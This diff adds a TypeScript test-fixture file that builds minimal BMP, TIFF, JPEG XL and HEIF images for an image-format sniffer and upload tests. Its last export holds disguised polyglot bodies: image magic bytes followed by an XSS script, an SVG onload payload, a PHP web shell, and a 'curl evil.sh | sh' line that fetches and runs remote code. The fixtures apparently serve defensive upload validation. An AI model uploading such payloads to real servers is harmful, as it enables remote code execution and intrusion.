@@ -1,0 +1,109 @@
+// Minimal real image files built byte by byte (formats sharp cannot write here), and the
+// bodies that only start like an image, for the sniffer, upload() and the backend fetch.
+
+/** A 1×1 24-bit BMP: a 14-byte file header, a 40-byte BITMAPINFOHEADER (or a 12-byte BITMAPCOREHEADER), one padded pixel row. */
+export function bmp(headerSize: 40 | 12 = 40): Buffer {
+  const pixels = 14 + headerSize
+  const file = Buffer.alloc(pixels + 4)
+  file.write('BM', 0, 'latin1')
+  file.writeUInt32LE(file.length, 2)
+  file.writeUInt32LE(pixels, 10)
+  file.writeUInt32LE(headerSize, 14)
+  if (headerSize === 12) {
+    file.writeUInt16LE(1, 18) // width
+    file.writeUInt16LE(1, 20) // height
+    file.writeUInt16LE(1, 22) // planes
+    file.writeUInt16LE(24, 24) // bits a pixel
+  } else {
+    file.writeInt32LE(1, 18)
+    file.writeInt32LE(1, 22)
+    file.writeUInt16LE(1, 26)
+    file.writeUInt16LE(24, 28)
+    file.writeUInt32LE(4, 34) // image size
+    file.writeInt32LE(2835, 38) // 72 dpi
+    file.writeInt32LE(2835, 42)
+  }
+  file.set([0x33, 0x33, 0xcc], pixels) // one red pixel, blue-green-red
+  return file
+}
+
+/** A 1×1 8-bit grey baseline TIFF, little-endian (`II*\0`) or big-endian (`MM\0*`). */
+export function tiff(littleEndian: boolean): Buffer {
+  const SHORT = 3
+  const LONG = 4
+  const entries: [tag: number, type: number, value: number][] = [
+    [256, SHORT, 1], // ImageWidth
+    [257, SHORT, 1], // ImageLength
+    [258, SHORT, 8], // BitsPerSample
+    [259, SHORT, 1], // Compression: none
+    [262, SHORT, 1], // PhotometricInterpretation: black is zero
+    [273, LONG, 0], // StripOffsets: set below
+    [277, SHORT, 1], // SamplesPerPixel
+    [278, SHORT, 1], // RowsPerStrip
+    [279, LONG, 1], // StripByteCounts
+  ]
+  const ifd = 8
+  const pixel = ifd + 2 + entries.length * 12 + 4
+  const file = Buffer.alloc(pixel + 1)
+  const u16 = (value: number, at: number) =>
+    littleEndian ? file.writeUInt16LE(value, at) : file.writeUInt16BE(value, at)
+  const u32 = (value: number, at: number) =>
+    littleEndian ? file.writeUInt32LE(value, at) : file.writeUInt32BE(value, at)
+  file.write(littleEndian ? 'II' : 'MM', 0, 'latin1')
+  u16(42, 2)
+  u32(ifd, 4)
+  u16(entries.length, ifd)
+  entries.forEach(([tag, type, value], i) => {
+    const at = ifd + 2 + i * 12
+    u16(tag, at)
+    u16(type, at + 2)
+    u32(1, at + 4)
+    // A value shorter than 4 bytes sits at the start of the value field.
+    if (type === SHORT) u16(value, at + 8)
+    else u32(tag === 273 ? pixel : value, at + 8)
+  })
+  // The next-IFD offset (0: none) is already zero; so is the pixel, black.
+  return file
+}
+
+/**
+ * The start of a JPEG XL file in its container form: the signature box, the `ftyp` box
+ * (brand `jxl `), and a `jxlc` box holding a codestream's first bytes.
+ */
+export function jxlContainer(): Buffer {
+  return Buffer.concat([
+    Buffer.from([0, 0, 0, 0x0c, 0x4a, 0x58, 0x4c, 0x20, 0x0d, 0x0a, 0x87, 0x0a]),
+    Buffer.from([0, 0, 0, 0x14]),
+    Buffer.from('ftypjxl \0\0\0\0jxl ', 'latin1'),
+    Buffer.from([0, 0, 0, 0x0c]),
+    Buffer.from('jxlc', 'latin1'),
+    Buffer.from([0xff, 0x0a, 0x00, 0x00]),
+  ])
+}
+
+/** The `ftyp` box a HEIF file starts with (brand `heic`, compatible `mif1`, `heic`), and padding. */
+export function heifHeader(): Buffer {
+  return Buffer.concat([
+    Buffer.from([0, 0, 0, 24]),
+    Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
+    Buffer.alloc(16),
+  ])
+}
+
+/** Every hand-built image above, by name, with the format it is. */
+export const BUILT_IMAGES: Readonly<Record<string, { readonly bytes: Buffer; readonly format: string }>> = {
+  'bmp (info header)': { bytes: bmp(40), format: 'bmp' },
+  'bmp (core header)': { bytes: bmp(12), format: 'bmp' },
+  'tiff (little-endian)': { bytes: tiff(true), format: 'tiff' },
+  'tiff (big-endian)': { bytes: tiff(false), format: 'tiff' },
+  'heif (ftyp box)': { bytes: heifHeader(), format: 'heif' },
+  'jxl (container)': { bytes: jxlContainer(), format: 'jxl' },
+}
+
+/** Bodies whose first bytes are those of an image and whose rest is a script (a reviewer's finding). */
+export const DISGUISED: Readonly<Record<string, Buffer>> = {
+  'BM + HTML/JS (bmp)': Buffer.from('BM<html><script>alert(document.domain)</script></html>'),
+  'BM + shell script (bmp)': Buffer.from('BM\n#!/bin/sh\ncurl evil.sh | sh\n'),
+  'FF 0A + SVG (bare jxl)': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.from('<svg onload=alert(1)>')]),
+  'II*\\0 + PHP (tiff)': Buffer.from('II*\0<?php system($_GET[c]); ?>'),
+}
